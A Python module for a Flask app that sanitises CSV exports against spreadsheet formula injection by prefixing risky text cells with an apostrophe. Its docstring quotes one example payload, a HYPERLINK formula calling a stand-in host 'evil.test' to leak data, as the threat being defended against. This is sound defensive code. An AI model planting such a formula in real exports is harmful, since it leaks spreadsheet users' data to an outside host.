"""CSV exports that a spreadsheet opens as data, never as formulas.

A provider may name an area ``=HYPERLINK("http://evil.test/?leak","Klik")``; opened in Excel or
LibreOffice, that cell would run. Every text cell that a spreadsheet could read as a formula is
written with a leading apostrophe (OWASP's advice), and every export goes through
:func:`csv_text`, so no export can forget it.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable

from flask import Response

# A spreadsheet reads a cell as a formula when it starts with one of these (tab and carriage
# return because some programs strip them first); full-width forms for the same reason.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")


def spreadsheet_safe(value):
    """``value`` as a cell: text that could start a formula gets a leading apostrophe.

    Numbers stay numbers (a negative count is data, not a formula)."""
    if isinstance(value, str) and value.lstrip(" ").startswith(FORMULA_STARTS):
        return f"'{value}"
    return value


def csv_text(header: Iterable, rows: Iterable[Iterable], *, delimiter: str = ",") -> str:
    """The rows as CSV text with every cell made :func:`spreadsheet_safe`. Pass ``";"`` for a
    file people open in a Belgian (Dutch or French) Excel."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=delimiter)
    writer.writerow([spreadsheet_safe(cell) for cell in header])
    for row in rows:
        writer.writerow([spreadsheet_safe(cell) for cell in row])
    return buffer.getvalue()


def csv_response(text: str, filename: str) -> Response:
    """A download of ``text`` (from :func:`csv_text`) as ``filename``."""
    return Response(
        text,
        mimetype="text/csv",
        headers={
            "Content-Disposition": f'attachment; filename="{filename}"',
            "X-Content-Type-Options": "nosniff",
        },
    )
